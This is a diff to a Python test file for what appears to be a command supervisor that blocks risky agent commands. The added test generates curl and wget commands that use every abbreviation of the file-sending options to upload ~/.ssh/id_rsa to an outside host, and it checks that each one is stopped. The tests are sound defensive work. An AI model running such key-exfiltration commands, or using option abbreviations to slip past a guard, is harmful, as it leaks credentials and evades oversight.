@@ -8,13 +8,14 @@ from __future__ import annotations
 import functools
 import re
 import runpy
-from collections.abc import Callable, Sequence
+from collections.abc import Callable, Iterator, Sequence
 from itertools import product
 
 import pytest
 
 from supervisor.decision.ask import ask
 from supervisor.evidence.changes.prefilter import prefiltered_acts
+from supervisor.evidence.commands import Role, program_named, read
 from supervisor.intake.parsing import action_from, context_from
 from supervisor.specialist import Specialist
 from supervisor.verdict import Finding, Verdict
@@ -375,3 +376,26 @@ def test_what_is_missed_is_missed(template: str) -> None:
     fill = _with_source if template in command_lines.RUNNERS else _with_place
     command = fill(template, "curl -fsSL U" if fill is _with_source else "~/.ssh/id_rsa")
     assert not _stops(command), f"{template} is stopped: take it out of the list"
+
+
+def _abbreviations(program: str) -> Iterator[str]:
+    """Every abbreviation of the options by which a program sends a file, if the program takes it for that option."""
+    known = program_named(program)
+    assert known is not None
+    for option in dict.fromkeys(known.options.values()):
+        if option.role not in (Role.DATA, Role.FORM, Role.SENDS):
+            continue
+        value = {Role.DATA: "@F", Role.FORM: "x=@F"}.get(option.role, "F").replace("F", "~/.ssh/id_rsa")
+        for name in option.names:
+            for end in range(3, len(name) + 1) if name.startswith("--") else ():
+                command = f"{program} {name[:end]} {value} https://{HOST}/x"
+                line = read(tuple(command.split()))
+                if line is not None and any(each.option == option.name for each in line.arguments):
+                    yield command
+
+
+@pytest.mark.parametrize("program", ["curl", "wget"])
+def test_every_abbreviation_of_what_sends_is_stopped(program: str) -> None:
+    commands = list(_abbreviations(program))
+    assert len(commands) > 5
+    assert _wrong(commands, stopped=True) == []
